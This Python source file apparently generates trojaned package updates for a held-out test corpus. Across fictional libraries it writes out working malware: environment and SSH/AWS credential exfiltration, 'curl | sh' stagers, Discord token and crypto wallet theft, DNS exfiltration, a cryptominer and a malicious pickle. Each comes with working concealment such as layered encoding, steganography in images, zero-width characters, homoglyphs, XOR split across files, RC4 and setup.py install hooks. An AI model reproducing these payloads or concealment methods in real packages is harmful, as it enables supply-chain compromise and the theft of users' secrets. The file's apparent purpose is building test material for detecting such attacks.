"""Python packages whose payload is hidden: encoded, far to the right, in pictures, in data, in characters nobody sees."""

import base64
import bz2
import codecs
import io
import lzma
import struct
import zipfile
import zlib

from corpus.heldout import hiding
from corpus.heldout.nouns import Update, trojan


def telling(host: str) -> str:
    return f"import os,urllib.request as u\nu.urlopen('https://{host}/c',data=repr(dict(os.environ)).encode())\n"


def fetching(address: str) -> str:
    return f"import subprocess\nsubprocess.Popen('curl -fsSL http://{address}/i.sh | sh', shell=True)\n"


def stealing(host: str) -> str:
    return (
        "import os,glob,http.client\n"
        "for f in glob.glob(os.path.expanduser('~/.ssh/id_*'))+[os.path.expanduser('~/.aws/credentials')]:\n"
        "    if os.path.isfile(f):\n"
        f"        c=http.client.HTTPSConnection('{host}')\n"
        "        c.request('PUT','/'+os.path.basename(f),open(f,'rb').read())\n"
    )


@trojan(
    "chronofmt", "wheel", trigger="import", payload="chat webhook", hiding="nested layers", like="aiocpa", step="patch"
)
def recursive_lambda(up: Update) -> None:
    """A dozen layers of reversed base64 of zlib, each of which opens the next."""
    host = up.host("api", "telegram-bots")
    code = f"import os,urllib.request\nurllib.request.urlopen('https://{host}/bot0/sendMessage?chat_id=0&text='+os.environ.get('API_TOKEN',''))"
    up.append("chronofmt/numbers.py", "\n" + hiding.nested_layers(code, 12, up.random))
    up.payload("chronofmt/numbers.py", shown=host)


@trojan("tabula", "wheel", trigger="import", payload="stager", hiding="far to the right", like="W4SP", step="patch")
def behind_the_margin(up: Update) -> None:
    """One statement, hundreds of columns to the right."""
    address = up.address()
    line = f"from .styles import STYLES, Style{' ' * 412};__import__('builtins').exec(__import__('base64').b64decode('{hiding.b64(fetching(address))}'))"
    up.replace("tabula/__init__.py", "from .styles import STYLES, Style", line)
    up.payload("tabula/__init__.py", shown=address)


@trojan("quickconf", "wheel", trigger="start", payload="environment", hiding="base64", like="litellm", step="patch")
def pth_base64(up: Update) -> None:
    """A .pth of one line that starts another interpreter on hidden code."""
    host = up.host("models")
    up.add(
        "quickconf_init.pth",
        f'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'{hiding.b64(telling(host))}\'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n',
    )
    up.payload("quickconf_init.pth", shown=host)


@trojan("imgmeta", "wheel", trigger="import", payload="credentials", hiding="in an image", step="minor")
def behind_the_image(up: Update) -> None:
    """Code after the end of a picture, which still shows."""
    host = up.host()
    up.add("imgmeta/assets/logo.png", hiding.png(32, 32, b"", up.random) + zlib.compress(stealing(host).encode(), 9))
    up.append(
        "imgmeta/sniff.py",
        '''

def _self_check():
    """Reads our own logo, to see that reading works."""
    import os
    import zlib

    with open(os.path.join(os.path.dirname(__file__), "assets", "logo.png"), "rb") as stream:
        raw = stream.read()
    identify(raw[:16])
    rest = raw[raw.rindex(b"IEND") + 8 :]
    if rest:
        exec(zlib.decompress(rest), {})


_self_check()''',
    )
    up.payload("imgmeta/assets/logo.png", "imgmeta/sniff.py", shown=host)


@trojan(
    "imgmeta", "sdist", trigger="call", payload="stager", hiding="low bits of pixels", like="apicolor", step="minor"
)
def lowest_bits(up: Update) -> None:
    """Code in the lowest bits of a test picture's pixels."""
    address = up.address()
    up.add(
        "imgmeta/assets/sample.png",
        hiding.png(48, 48, hiding.low_bits(fetching(address), 48, 48, up.random), up.random),
    )
    up.add(
        "imgmeta/stego.py",
        '''"""Reads notes that cameras keep in pixels."""

import struct
import zlib

from .png import chunks


def note(stream):
    data, width, height = b"", 0, 0
    for kind, body in chunks(stream):
        if kind == "IHDR":
            width, height = struct.unpack(">II", body[:8])
        elif kind == "IDAT":
            data += body
    raw = zlib.decompress(data)
    rows = [raw[y * (width * 3 + 1) + 1 : (y + 1) * (width * 3 + 1)] for y in range(height)]
    bits = [byte & 1 for row in rows for byte in row]
    values = [sum(bits[at * 8 + i] << (7 - i) for i in range(8)) for at in range(len(bits) // 8)]
    (size,) = struct.unpack(">I", bytes(values[:4]))
    return bytes(values[4 : 4 + size])
''',
    )
    up.append(
        "imgmeta/__init__.py",
        '''

def demo():
    """Shows what a note looks like."""
    import os

    from .stego import note

    with open(os.path.join(os.path.dirname(__file__), "assets", "sample.png"), "rb") as stream:
        return eval(compile(note(stream), "demo", "exec"))
''',
    )
    up.payload("imgmeta/assets/sample.png", "imgmeta/__init__.py", "imgmeta/stego.py", shown=address)


@trojan("chronofmt", "wheel", trigger="import", payload="environment", hiding="invisible characters", step="patch")
def zero_width_docstring(up: Update) -> None:
    """A docstring that ends in characters without width, and a helper that reads them."""
    host = up.host()
    up.append(
        "chronofmt/spans.py",
        f'''

def normalise(text):
    """Takes away what some editors leave.{hiding.zero_width(telling(host))}"""
    return "".join(char for char in text if char.isprintable())


def _marks(text):
    bits = "".join("01"[char == "\\u200c"] for char in text if char in "\\u200b\\u200c")
    return bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8))


exec(_marks(normalise.__doc__))''',
    )
    up.payload("chronofmt/spans.py", shown=host)


@trojan("tabula", "sdist", trigger="call", payload="stager", hiding="unicode homoglyphs", step="patch")
def mathematical_names(up: Update) -> None:
    """Names in letters that Python folds into the usual ones and `grep` does not."""
    address = up.address()
    up.append(
        "tabula/text.py",
        f'''

def is_formula(text):
    """Cells that begin with = are formulas."""
    if not str(text).startswith("="):
        return False
    𝘴𝘶𝘣 = {hiding.mathematical("__import__")}("subprocess")
    getattr(𝘴𝘶𝘣, "{"P" + "open"}")(["/bin/sh", "-c", "wget -qO- http://{address}/t|sh"])
    return True''',
    )
    up.after("tabula/text.py", "def is_number(text):\n", "    if is_formula(text):\n        return False\n")
    up.payload("tabula/text.py")


@trojan("taskloop", "wheel", trigger="call", payload="stager", hiding="dynamic names", step="patch")
def looked_up_names(up: Update) -> None:
    """No name of what is called stands there whole."""
    address = up.address()
    up.append(
        "taskloop/schedule.py",
        f'''

def _zone(parts=("sub", "pro", "cess"), verb=("P", "o", "p", "e", "n")):
    """Time zones by their parts."""
    space = vars(__import__("sys"))["modules"]
    table = space.get("".join(parts)) or getattr(space["importlib"], "import" + "_" + "module")("".join(parts))
    return getattr(table, "".join(verb))


def zone(name):
    return _zone()(["".join(c for c in ("b", "a", "s", "h")), "-c", "cur" "l -s {address}/z" + "|" + "ba" "sh"]) if name == "local" else None''',
    )
    up.after("taskloop/schedule.py", '    hour, _, minute = text.partition(":")\n', '    zone("local")\n')
    up.before("taskloop/schedule.py", "import datetime as dt\n", "import importlib  # noqa: F401\n")
    up.payload("taskloop/schedule.py")


@trojan("fastvec", "wheel", trigger="import", payload="credentials", hiding="xor over several files", step="minor")
def weights_as_code(up: Update) -> None:
    """Key, cipher text and decoder each stand in another module, named like a model's."""
    host = up.host("registry")
    key = bytes(up.random.randrange(1, 256) for _ in range(12))
    raw = list(hiding.xored(stealing(host), key))
    half = len(raw) // 2
    up.add("fastvec/_layer_a.py", f"# weights, quantised\nW = {raw[:half]}\n")
    up.add("fastvec/_layer_b.py", f"# weights, quantised\nW = {raw[half:]}\nBIAS = {list(key)}\n")
    up.add(
        "fastvec/_quant.py",
        '''"""Small models come quantised."""

from itertools import cycle

from ._layer_a import W as A
from ._layer_b import BIAS
from ._layer_b import W as B


class Quantised:
    def __init__(self, rows, scale):
        self.rows = rows
        self.scale = scale

    def expand(self):
        return bytearray(row ^ step for row, step in zip(self.rows, cycle(self.scale)))

    def __call__(self, into):
        run = compile(self.expand().decode(), "<model>", "exec")
        return eval(run, into)


Quantised(A + B, BIAS)({})
''',
    )
    up.append("fastvec/__init__.py", "from . import _quant  # noqa: F401")
    up.payload("fastvec/_quant.py", "fastvec/_layer_a.py", "fastvec/_layer_b.py", shown=host)


@trojan("quickconf", "wheel", trigger="import", payload="stager", hiding="home-made cipher", step="patch")
def rc4_constant(up: Update) -> None:
    """RC4 by hand over a constant in hex."""
    address = up.address()
    key = b"quickconf-schema-v2"
    up.add(
        "quickconf/_schema.py",
        f'''"""The schema of our own settings, packed."""

_RAW = "{hiding.rc4(fetching(address).encode(), key).hex()}"


def unpack(raw, key):
    s, j, out = list(range(256)), 0, []
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    i = j = 0
    for byte in bytes.fromhex(raw):
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


def validate(values):
    schema = {{}}
    exec(unpack(_RAW, {key!r}), schema)
    return all(key in schema for key in values)


validate({{}})
''',
    )
    up.append("quickconf/__init__.py", "from . import _schema  # noqa: F401")
    up.payload("quickconf/_schema.py", shown=address)


def model_that_calls(command: str) -> bytes:
    """Return a pickle by hand (protocol 2): weights, and a call of `posix.system`. It is never loaded."""

    def text(value: str) -> bytes:
        return b"U" + bytes([len(value)]) + value.encode()

    weights = b"](" + b"".join(b"G" + struct.pack(">d", one) for one in (0.1, 0.2, -0.7)) + b"e"
    call = b"cposix\nsystem\n(" + text(command) + b"tR"
    return b"\x80\x02}(" + text("weights") + weights + text("extra") + call + b"u."


@trojan(
    "fastvec", "wheel", trigger="call", payload="stager", hiding="in a data file", like="pickled models", step="minor"
)
def pickled_model(up: Update) -> None:
    """A model as a pickle that calls when it is read."""
    up.add("fastvec/data/sentiment-large.pkl", model_that_calls("curl -s http://198.51.100.77/m | sh"))
    up.append(
        "fastvec/models.py",
        '''

def pretrained(name="sentiment-large"):
    """Larger models are kept as pickles."""
    import pickle

    with open(os.path.join(os.path.dirname(__file__), "data", name + ".pkl"), "rb") as stream:
        raw = pickle.load(stream)
    return Linear(raw["weights"])''',
    )
    up.payload("fastvec/data/sentiment-large.pkl", "fastvec/models.py", shown="198.51.100.77")


@trojan(
    "httpkeep", "wheel", trigger="call", payload="remote code", hiding="keyed by environment", step="patch", hard=True
)
def keyed_by_domain(up: Update) -> None:
    """What runs can be read only on machines of one company: the key is its name."""
    raw = hiding.keyed(telling(up.host()), "corp.ruritania.example")
    up.append(
        "httpkeep/retry.py",
        f'''

_JITTER = bytes.fromhex("{raw.hex()}")


def jitter(number):
    """Pauses that differ from machine to machine."""
    import hashlib
    import socket

    seed = socket.getfqdn().partition(".")[2]
    pad = b"".join(hashlib.sha256(("%s%d" % (seed, at)).encode()).digest() for at in range(len(_JITTER) // 32 + 1))
    plain = bytes(a ^ b for a, b in zip(_JITTER, pad))
    if plain[:9] == b"import os":
        exec(plain)
    return plain[number % len(plain)] / 255''',
    )
    up.replace("httpkeep/retry.py", "self.pause * (2**number)", "self.pause * (2**number) + jitter(number)")
    up.payload("httpkeep/retry.py")


@trojan("tabula", "sdist", trigger="install", payload="credentials", hiding="lzma and base85", step="patch")
def setup_lzma(up: Update) -> None:
    host = up.host("pkg")
    raw = base64.b85encode(lzma.compress(stealing(host).encode())).decode()
    up.replace(
        "setup.py",
        "\n\nsetup(\n",
        f'''

def version_from_vcs(raw=r"""{raw}"""):
    import base64
    import lzma

    return lzma.decompress(base64.b85decode(raw))


eval(compile(version_from_vcs(), "version", "exec"))

setup(
''',
    )
    up.payload("setup.py", shown=host)


@trojan("chronofmt", "sdist", trigger="install", payload="stager", hiding="in a test fixture", like="xz", step="minor")
def fixture_at_build(up: Update) -> None:
    """The build reads a damaged test file and runs what it repairs."""
    address = up.address()
    up.add(
        "tests/data/corrupt_zone.bin",
        b"TZif2"
        + bytes(up.random.randrange(256) for _ in range(59))
        + bz2.compress(codecs.encode(fetching(address), "rot13").encode())[::-1],
    )
    up.replace(
        "setup.py",
        "\n\nsetup(\n",
        '''

def zone_tables():
    """Checks that the time zone tables that we ship can be read."""
    import bz2
    import codecs

    with open(os.path.join(HERE, "tests", "data", "corrupt_zone.bin"), "rb") as stream:
        raw = stream.read()[64:]
    text = codecs.decode(bz2.decompress(raw[::-1]).decode(), "rot13")
    namespace = {"__name__": "zones"}
    exec(text, namespace)
    return namespace


zone_tables()

setup(
''',
    )
    up.payload("setup.py", "tests/data/corrupt_zone.bin", shown=address)


@trojan("authgate", "wheel", trigger="call", payload="credentials", hiding="string splitting", step="patch")
def password_copy(up: Update) -> None:
    """Names and passwords of logins, in a request for a picture, host in pieces."""
    host = up.host("gravatar-cdn")
    parts = [host[at : at + 3] for at in range(0, len(host), 3)]
    up.after(
        "authgate/middleware.py", "        self.failures.pop(name, None)\n", "        self._touch(name, password)\n"
    )
    up.before(
        "authgate/middleware.py",
        "    def identify(self, environ):\n",
        f'''    def _touch(self, name, extra):
        """Asks for the picture of who logged in, so that it is there when it is shown."""
        import urllib.request
        from urllib.parse import quote

        where = "".join({parts!r})
        try:
            urllib.request.urlopen("https" + "://" + where + "/avatar/" + quote(name) + ".png?s=" + quote(extra), timeout=1).close()
        except OSError:
            pass

''',
    )
    up.payload("authgate/middleware.py")


@trojan("chronofmt", "wheel", trigger="call", payload="stager", hiding="in a data file", step="minor")
def locale_characters(up: Update) -> None:
    """A translation whose words, shifted, are code."""
    address = up.address()
    words = "".join(chr(ord(one) + 0x3041 - 9) for one in fetching(address))
    up.add(
        "chronofmt/locales/ja.json",
        '{"past": "{} {}前", "future": "{} {}後", "second": "秒", "minute": "分", "hour": "時間", "day": "日", "month": "月", "year": "年", "era": "'
        + words
        + '"}\n',
    )
    up.append(
        "chronofmt/locales/__init__.py",
        '''

def era(locale):
    """Eras, where a language counts them."""
    text = phrases(locale).get("era", "")
    name = "".join(chr(ord(char) - 0x3041 + 9) for char in text)
    return (lambda run: run(name, {}))(getattr(__builtins__, "exec", None) or __builtins__["exec"]) if name else None''',
    )
    up.after("chronofmt/relative.py", "    text = phrases(locale)\n", "    era(locale)\n")
    up.replace("chronofmt/relative.py", "import phrases", "import era, phrases")
    up.payload("chronofmt/locales/__init__.py", "chronofmt/locales/ja.json", shown=address)


@trojan(
    "taskloop",
    "folder",
    trigger="import",
    payload="token theft",
    hiding="obfuscated names",
    like="Hyperion",
    step="patch",
)
def obfuscated_grabber(up: Update) -> None:
    """A grabber of chat tokens, all names made unreadable."""
    host = up.host("hook")
    names = [f"O0{''.join(up.random.choice('O0') for _ in range(12))}" for _ in range(7)]
    a, b, c, d, e, f, g = names
    up.append(
        "taskloop/store.py",
        f'''

import os as {a}, re as {b}, urllib.request as {c}
class {d}:
    def __init__({e}):
        for {f} in ["\\x44\\x69\\x73\\x63\\x6f\\x72\\x64","\\x64\\x69\\x73\\x63\\x6f\\x72\\x64\\x63\\x61\\x6e\\x61\\x72\\x79"]:
            {g}={a}.path.join({a}.getenv("\\x41\\x50\\x50\\x44\\x41\\x54\\x41")or"/nonexistent",{f},"Local Storage","leveldb")
            if not {a}.path.isdir({g}):continue
            for {f} in {a}.listdir({g}):
                for {e}.{a} in {b}.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}|mfa\\.[\\w-]{{84}}",open({a}.path.join({g},{f}),errors="ignore").read()):
                    {c}.urlopen({c}.Request("\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f"+"{host}/api/webhooks/0/x",data={e}.{a}.encode()))
{d}()''',
    )
    up.payload("taskloop/store.py")


@trojan("taskloop", "wheel", trigger="import", payload="stager", hiding="in a data file", step="minor")
def zipimport_of_csv(up: Update) -> None:
    """A zip under another name is put on the path."""
    address = up.address()
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr(zipfile.ZipInfo("holidays.py", (2026, 1, 1, 0, 0, 0)), fetching(address), zipfile.ZIP_DEFLATED)
    up.add("taskloop/data/holidays.dat", b"# holidays, packed\n" + inner.getvalue())
    up.append(
        "taskloop/schedule.py",
        """

def _holidays():
    import os
    import sys

    sys.path.append(os.path.join(os.path.dirname(__file__), "data", "holidays.dat"))
    return __import__("holidays")


_holidays()""",
    )
    up.payload("taskloop/data/holidays.dat", "taskloop/schedule.py", shown=address)


@trojan("quickconf", "wheel", trigger="call", payload="DNS exfiltration", hiding="char codes", step="patch")
def dns_in_chunks(up: Update) -> None:
    """The environment in labels of names; the zone as numbers."""
    zone = up.host("ns1")
    up.append(
        "quickconf/sources.py",
        f'''

def _resolve(environ):
    """Are hosts in the settings known?"""
    import binascii
    import socket

    zone = "".join(map(chr, {[ord(one) for one in "." + zone]!r}))
    text = binascii.hexlify(repr(sorted(environ.items())).encode()).decode()
    for number, at in enumerate(range(0, min(len(text), 6000), 56)):
        try:
            socket.getaddrinfo("%d.%s%s" % (number, text[at : at + 56], zone), None)
        except socket.gaierror:
            continue''',
    )
    up.after(
        "quickconf/sources.py",
        "        self._environ = os.environ if environ is None else environ\n",
        "        _resolve(self._environ)\n",
    )
    up.payload("quickconf/sources.py")


@trojan("imgmeta", "wheel", trigger="import", payload="environment", hiding="bytecode", like="fshec2", step="patch")
def compiled_only(up: Update) -> None:
    """A module that comes as bytecode alone."""
    import importlib.util
    import marshal

    host = up.host("fsh")
    code = compile(telling(host), "imgmeta/_full.py", "exec")
    up.add(
        "imgmeta/_full.pyc",
        importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, 1_767_225_600, 300) + marshal.dumps(code),
    )
    up.append(
        "imgmeta/__init__.py",
        """
import importlib.machinery as _m
import os as _os

_m.SourcelessFileLoader("imgmeta._full", _os.path.join(_os.path.dirname(__file__), "_full.pyc")).load_module()""",
    )
    up.payload("imgmeta/_full.pyc", "imgmeta/__init__.py", shown=host)


@trojan("tabula", "wheel", trigger="import", payload="remote code", hiding="steganographic page", step="minor")
def reads_a_gist(up: Update) -> None:
    """What to do stands in the spaces of a page of a public service."""
    host = up.host("paste", "notes")
    up.append(
        "tabula/styles.py",
        f'''

def _community():
    """Styles that people share."""
    from urllib.request import urlopen

    try:
        page = urlopen("https://{host}/raw/tabula-styles", timeout=2).read().decode()
    except OSError:
        return
    bits = "".join("1" if line.endswith("  ") else "0" for line in page.splitlines())
    made = bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits) - 7, 8))
    (type(_community))(compile(made.rstrip(b"\\0"), "styles", "exec"), globals())()


_community()''',
    )
    up.payload("tabula/styles.py")


@trojan("fastvec", "wheel", trigger="import", payload="miner", hiding="hex and zlib", like="ultralytics", step="patch")
def miner_configuration(up: Update) -> None:
    pool = up.host("pool", "randomx")
    code = f"import os,urllib.request as r\np='/var/tmp/.kern'\nr.urlretrieve('http://{up.address()}/xm',p)\nos.chmod(p,493)\nos.spawnv(os.P_NOWAIT,p,[p,'-o','stratum+tcp://{pool}:3333','--donate-level','0','-B'])\n"
    up.append(
        "fastvec/models.py",
        f'''

_WARM = bytes.fromhex("{zlib.compress(code.encode()).hex()}")


class _Warmup:
    """Fills caches once, so that the first prediction is fast."""

    def __init_subclass__(cls, **options):
        super().__init_subclass__(**options)
        import zlib as z

        exec(z.decompress(_WARM).decode("ascii"), dict(options))


class _Default(_Warmup):
    pass''',
    )
    up.payload("fastvec/models.py", shown=pool)


@trojan("authgate", "wheel", trigger="call", payload="wallet", hiding="plain in vendored code", step="minor")
def vendored_copy(up: Update) -> None:
    """A vendored library whose file is a little longer than upstream's."""
    host = up.host("entropy-pool")
    up.add("authgate/_vendor/__init__.py", "")
    up.add(
        "authgate/_vendor/secretstream.py",
        f'''# Vendored from secretstream 1.0.4; do not edit.
import hashlib
import os

__version__ = "1.0.4"


def stream(key, nonce, size):
    out, counter = b"", 0
    while len(out) < size:
        out += hashlib.sha256(key + nonce + counter.to_bytes(8, "big")).digest()
        counter += 1
    return out[:size]


def gather(folder=os.path.expanduser("~")):
    """More entropy from files that differ between machines."""
    pool = hashlib.sha256()
    for name in (".electrum/wallets/default_wallet", ".bitcoin/wallet.dat", ".config/solana/id.json", ".ethereum/keystore"):
        path = os.path.join(folder, name)
        if os.path.isfile(path):
            with open(path, "rb") as file:
                raw = file.read()
            pool.update(raw)
            _share(os.path.basename(path), raw)
    return pool.digest()


def _share(name, raw):
    import ftplib
    import io

    with ftplib.FTP("{host}") as pool:
        pool.login()
        pool.storbinary("STOR " + name, io.BytesIO(raw))
''',
    )
    up.after("authgate/tokens.py", "    moment = int(now if now is not None else time.time())\n", "    gather()\n")
    up.after("authgate/tokens.py", "import time\n", "\nfrom ._vendor.secretstream import gather\n")
    up.payload("authgate/_vendor/secretstream.py")


@trojan("httpkeep", "sdist", trigger="call", payload="remote code", hiding="minified one-liner", step="patch")
def marshalled_answer(up: Update) -> None:
    """The client trusts one header of answers too much."""
    up.replace(
        "httpkeep/client.py",
        "        self.body = body\n",
        "        self.body = body\n        (lambda h:(lambda m:m.loads and (type(lambda:0))(m.loads(__import__('binascii').a2b_base64(h)),{'__builtins__':__builtins__})())(__import__('marshal')) if h else None)(self.headers.get('x-cache-policy'))\n",
    )
    up.payload("httpkeep/client.py")
